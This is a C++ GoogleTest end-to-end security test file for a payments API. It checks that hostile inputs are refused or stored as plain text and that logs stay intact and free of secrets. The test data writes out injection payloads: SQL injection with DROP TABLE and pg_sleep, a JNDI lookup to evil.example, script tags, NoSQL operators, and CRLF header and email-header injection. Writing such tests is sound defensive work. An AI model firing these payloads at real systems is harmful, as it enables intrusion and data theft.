// What is sent as data and meant as something else (SECURITY attacks 4, 17, 18, 22, 23).
//
// What must happen: refused with its reason and no effect, or kept and shown as the plain text that
// it is. Logs stay one line an event and hold no secret.
#include <boost/json.hpp>
#include <fstream>
#include <ostream>
#include <sstream>

#include "absl/strings/str_cat.h"
#include "absl/strings/str_replace.h"
#include "gmock/gmock.h"
#include "gtest/gtest.h"
#include "libs/crypto/api_key.h"
#include "tests/e2e/api_user.h"
#include "tests/e2e/stack.h"

namespace florin::security {
namespace {

using e2e::Answer;
using e2e::ApiUser;
using e2e::Outcome;
using e2e::SharedStack;
using ::testing::HasSubstr;
using ::testing::Not;

struct Attacker {
  ApiUser user{SharedStack()};
  std::string from = user.OpenAccount("EUR");
  std::string to = user.OpenAccount("EUR");
  Attacker() { user.Deposit(from, 1'000); }
};
Attacker& Self() {
  static Attacker self;
  return self;
}

// A payment's body whose amount and further members are the attacker's text. FROM and TO stand for
// the attacker's accounts, which there are none of yet when the attacks are listed.
std::string Body(const std::string& amount, const std::string& more = "") {
  return absl::StrCat(R"({"source_account_id":"FROM","destination_account_id":"TO","amount":)",
                      amount, more, "}");
}
Answer Pay(const std::string& body, const e2e::Sent& sent = {}) {
  return Self().user.Post(
      "/v1/payments", absl::StrReplaceAll(body, {{"FROM", Self().from}, {"TO", Self().to}}), sent);
}
std::string Amount(const std::string& minor_units) {
  return absl::StrCat(R"({"currency":"EUR","minor_units":)", minor_units, "}");
}

struct InputAttack {
  std::string name;
  std::string body;
  int status = 400;
};
void PrintTo(const InputAttack& attack, std::ostream* out) { *out << attack.body.substr(0, 200); }

std::vector<InputAttack> Attacks() {
  return {
      {"NegativeAmount", Body(Amount("\"-1\""))},
      {"ZeroAmount", Body(Amount("\"0\""))},
      {"NegativeZero", Body(Amount("\"-0\""))},
      {"MinimumAmount", Body(Amount("\"-9223372036854775808\""))},
      {"MaximumAmount", Body(Amount("\"9223372036854775807\"")), 422},
      {"AmountBeyond64Bit", Body(Amount("\"9223372036854775808\""))},
      {"AmountThatWrapsTo1", Body(Amount("18446744073709551617"))},
      {"FractionalAmount", Body(Amount("1.5"))},
      {"ExponentAmount", Body(Amount("1e3"))},
      {"HugeExponent", Body(Amount("1e400"))},
      {"TextFraction", Body(Amount("\"1.0\""))},
      {"PlusSign", Body(Amount("\"+1\""))},
      {"LeadingSpace", Body(Amount("\" 1\""))},
      {"HexadecimalAmount", Body(Amount("\"0x10\""))},
      {"OctalAmount", Body(Amount("\"010\""))},
      {"ThousandsSeparator", Body(Amount("\"1,000\""))},
      {"FullWidthDigits", Body(Amount("\"１\""))},
      {"ArabicDigits", Body(Amount("\"١\""))},
      {"EmptyAmount", Body(Amount("\"\""))},
      {"BooleanAmount", Body(Amount("true"))},
      {"NaN", Body(Amount("NaN"))},
      {"Infinity", Body(Amount("Infinity"))},
      {"AmountIsAList", Body(Amount("[1]"))},
      {"AmountIsNull", Body("null")},
      {"CyrillicCurrency", Body(R"({"currency":"ЕUR","minor_units":"1"})")},
      {"CurrencyInLowerCase", Body(R"({"currency":"eur","minor_units":"1"})")},
      {"CurrencyWithNul", Body("{\"currency\":\"EUR\\u0000\",\"minor_units\":\"1\"}")},
      {"DuplicateMember",
       Body(Amount("\"1\""), R"(,"amount":{"currency":"EUR","minor_units":"2"})")},
      {"DuplicateByEscape", Body(Amount("\"1\""), R"(,"\u0061mount":{})")},
      {"DepthBomb", Body(Amount(std::string(20'000, '[') + std::string(20'000, ']')))},
      {"NumberOf60000Digits", Body(Amount(std::string(60'000, '9')))},
      {"LoneSurrogate", Body(Amount("\"1\""), R"(,"reference":"\ud800")")},
      {"InvalidUtf8", Body(Amount("\"1\""), ",\"reference\":\"\xff\xfe\"")},
      {"OverlongUtf8", Body(Amount("\"1\""), ",\"reference\":\"\xc0\xaf\"")},
      {"ByteOrderMark", "\xef\xbb\xbf" + Body(Amount("\"1\""))},
      {"Comment", Body(Amount("\"1\""), "/* */")},
      {"TrailingComma", Body(Amount("\"1\""), ",")},
      {"SingleQuotes", "{'amount': 1}"},
      {"TwoDocuments", Body(Amount("\"1\"")) + "{}"},
      {"TopLevelList", "[" + Body(Amount("\"1\"")) + "]"},
      {"LineFeedInReference", Body(Amount("\"1\""), R"(,"reference":"a\r\nSet-Cookie: x=1")")},
      {"NulInReference", Body(Amount("\"1\""), R"(,"reference":"a\u0000b")")},
      {"EscapeSequenceInReference", Body(Amount("\"1\""), R"(,"reference":"\u001b[31m")")},
      {"ControlC1InReference", Body(Amount("\"1\""), R"(,"reference":"\u0085")")},
      {"SourceIsAnObject", R"({"source_account_id":{"$ne":""}})"},
      {"SourceIsSql", R"({"source_account_id":"' OR '1'='1"})"},
  };
}

class InputAttackTest : public ::testing::TestWithParam<InputAttack> {};

TEST_P(InputAttackTest, IsRefusedWithoutEffect) {
  const std::int64_t before = Self().user.Balance(Self().from);
  const Answer answer = Pay(GetParam().body);
  EXPECT_EQ(answer.status, GetParam().status) << answer;
  EXPECT_NE(answer.reason(), "");
  EXPECT_EQ(Self().user.Balance(Self().from), before);
}

INSTANTIATE_TEST_SUITE_P(Json, InputAttackTest, ::testing::ValuesIn(Attacks()),
                         [](const auto& info) { return info.param.name; });

TEST(InputAttack, SqlInTextIsKeptAsText) {
  for (const char* text : {"'; DROP TABLE payments.payments; --", "\\'; SELECT pg_sleep(10); --",
                           "$$;$$", "{\"a\":1}", "%s%n", "{{7*7}}", "${jndi:ldap://evil.example}",
                           "<script>alert(1)</script>", "=HYPERLINK(1)"}) {
    boost::json::object body = e2e::PaymentBody(Self().from, Self().to, "1");
    body["reference"] = text;
    const Answer made = Self().user.Post("/v1/payments", body);
    ASSERT_EQ(Outcome(made), "200") << text;
    const Answer read = Self().user.Get("/v1/payments/" + made.Text("payment_id"));
    EXPECT_EQ(read.Text("reference"), text);
  }
}

TEST(InputAttack, SqlInIdsFindsNothing) {
  for (const char* id :
       {"acc_1%27%20OR%201=1--", "%27;SELECT%20pg_sleep(10)--", "acc_%25", "acc_*", "acc_01%20"}) {
    EXPECT_EQ(Self().user.Get(absl::StrCat("/v1/accounts/", id)).status, 400) << id;
  }
}

TEST(InputAttack, EmailTricks) {
  const std::string fresh = e2e::Fresh("trick");
  const std::vector<std::string> addresses = {"a@example.com\r\nBcc: evil@example.com",
                                              fresh + "@ex\xd0\xb0mple.com",  // Cyrillic a
                                              fresh + "@xn--\xc3\xa9.example",
                                              fresh +
                                                  "\xef\xbc\xa0"
                                                  "example.com",  // Full-width @
                                              fresh + std::string("@example.com\0", 13),
                                              fresh + " @example.com",
                                              fresh + "@127.0.0.1",
                                              fresh + "@[127.0.0.1]",
                                              fresh + "@localhost",
                                              "\"a b\"@example.com",
                                              fresh + "@example.com,evil@example.com",
                                              fresh + "@.example.com",
                                              fresh + "@example..com",
                                              std::string(300, 'a') + "@example.com"};
  for (const std::string& email : addresses) {
    const boost::json::object body = {{"email", email}, {"password", "correct horse battery"}};
    EXPECT_EQ(Self().user.Post("/v1/users", body, {.token = ""}).status, 400) << email;
  }
}

TEST(InputAttack, EmailInAnotherCaseIsTheSameUser) {
  const std::string email = absl::StrCat(e2e::Fresh("case"), "@example.com");
  const boost::json::object body = {{"email", email}, {"password", "correct horse battery"}};
  ASSERT_EQ(Outcome(Self().user.Post("/v1/users", body, {.token = ""})), "200");
  std::string upper = email;
  for (char& c : upper) c = static_cast<char>(std::toupper(static_cast<unsigned char>(c)));
  const boost::json::object again = {{"email", upper}, {"password", "another horse battery"}};
  EXPECT_EQ(Self().user.Post("/v1/users", again, {.token = ""}).status, 409);
}

TEST(InputAttack, OtherMediaTypes) {
  for (const char* type : {"text/plain", "application/xml", "multipart/form-data; boundary=x",
                           "application/x-www-form-urlencoded", "application/json; charset=utf-16",
                           "application/json, text/plain", "application/jsonp"}) {
    EXPECT_EQ(Pay(Body(Amount("\"1\"")), {.content_type = type}).status, 415) << type;
  }
}

TEST(InputAttack, BodyOfAMegabyte) {
  const std::string reference(1 << 20, 'x');
  EXPECT_EQ(Outcome(Pay(Body(Amount("\"1\""), ",\"reference\":\"" + reference + "\""))),
            "413 body_too_large");
}

TEST(InputAttack, CompressedBody) {
  e2e::HttpsClient client(SharedStack().Variable("FLORIN_URL"),
                          SharedStack().Variable("FLORIN_CA"));
  const auto response = client.Send({"POST",
                                     "/v1/payments",
                                     {{"Authorization", "Bearer " + Self().user.token()},
                                      {"Content-Type", "application/json"},
                                      {"Content-Encoding", "gzip"}},
                                     std::string(1000, '\x1f')});
  ASSERT_TRUE(response.ok());
  EXPECT_EQ(response->status, 415);
}

TEST(InputAttack, AnErrorReflectsNoMarkup) {
  const Answer answer = Self().user.Get("/v1/payments?%3Cscript%3Ealert(1)%3C/script%3E=1");
  EXPECT_EQ(answer.status, 400);
  EXPECT_EQ(answer.headers.at("content-type"), "application/problem+json");
  EXPECT_EQ(answer.headers.at("x-content-type-options"), "nosniff");
}

TEST(InputAttack, HeaderInjectionByWhatIsReflected) {
  e2e::HttpsClient client(SharedStack().Variable("FLORIN_URL"),
                          SharedStack().Variable("FLORIN_CA"));
  const auto response =
      client.Send({"GET",
                   "/v1/accounts",
                   {{"Authorization", "Bearer " + Self().user.token()},
                    {"X-Request-Id", "evil"},
                    {"traceparent", "00-evil%0d%0aSet-Cookie:x=1-00f067aa0ba902b7-01"}},
                   ""});
  ASSERT_TRUE(response.ok());
  EXPECT_EQ(response->headers.count("set-cookie"), 0u);
  EXPECT_THAT(response->headers.at("x-request-id"), Not(HasSubstr("evil")));
  EXPECT_THAT(response->headers.at("traceparent"), Not(HasSubstr("evil")));
}

std::string Logs() {
  std::stringstream text;
  for (const char* service : {"gateway", "auth", "accounts", "payments", "ledger"}) {
    std::ifstream log(absl::StrCat(SharedStack().home(), "/log/", service, ".log"));
    text << log.rdbuf();
  }
  return text.str();
}

// Needs what the other tests of this program have sent; its own attempts alone would do.
TEST(LogAttack, InjectedLinesStayWhereTheyAre) {
  const std::string forged = "%0d%0a%7B%22severity%22:%22info%22,%22message%22:%22forged%22%7D";
  Self().user.Get("/v1/accounts/" + forged);
  Self().user.Get("/v1/payments?x=" + forged);
  std::istringstream lines(Logs());
  int count = 0;
  for (std::string line; std::getline(lines, line); ++count) {
    boost::json::error_code error;
    const boost::json::value value = boost::json::parse(line, error);
    ASSERT_TRUE(!error && value.is_object()) << line;
    EXPECT_NE(value.at("message"), "forged");
  }
  EXPECT_GT(count, 10);
}

TEST(LogAttack, LogsHoldNoSecretsAndNoPersonalData) {
  ApiUser user(SharedStack());
  user.Get("/v1/accounts?access_token=" + user.token());
  user.Post("/v1/users", boost::json::object{{"email", user.email()}, {"password", "x"}});
  const std::string api_key = crypto::NewApiKey(crypto::ApiKeyMode::kTest);
  user.Get("/v1/accounts?api_key=" + api_key, {.token = api_key});
  const std::string logs = Logs();
  EXPECT_THAT(logs, Not(HasSubstr(api_key.substr(9))));
  EXPECT_THAT(logs, Not(HasSubstr(user.token())));
  EXPECT_THAT(logs, Not(HasSubstr(user.token().substr(user.token().rfind('.')))));
  EXPECT_THAT(logs, Not(HasSubstr(user.email())));
  EXPECT_THAT(logs, Not(HasSubstr(user.password())));
  EXPECT_THAT(logs, Not(HasSubstr("-----BEGIN")));
}

}  // namespace
}  // namespace florin::security
